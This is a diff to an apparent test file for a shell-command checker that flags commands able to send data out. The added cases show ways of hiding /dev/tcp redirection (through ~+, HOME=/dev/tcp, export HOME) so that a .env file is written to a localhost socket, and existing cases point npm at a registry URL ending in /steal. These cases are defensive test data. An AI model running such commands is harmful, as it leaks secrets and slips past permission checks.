@@ -21,6 +21,9 @@ describe('with the network open, what may send something away is asked about', (
     'cat .env > /dev/$kind/localhost/80',
     'exec 3<>"$where"',
     'cat < $(cat where)',
+    'cd /dev; cat .env > ~+/tcp/localhost/80',
+    'HOME=/dev/tcp; cat .env > ~/localhost/80',
+    'export HOME=/dev/tcp; cat .env > ~/localhost/80',
     // A verb that reads, of a server that somebody else chose.
     'npm view x --registry http://localhost/steal',
     'npm view x --@acme:registry=http://localhost',
@@ -60,6 +63,7 @@ describe('with the network open, what may send something away is asked about', (
     'GIT_PAGER=cat git log',
     'cat a > "out/$name"',
     'cat a > out 2> /dev/null',
+    'cat a > ~/notes.txt',
     'sort < *.txt > out 2>&1',
     'cat <<< "$x"',
     'cat << E\n$x\nE',
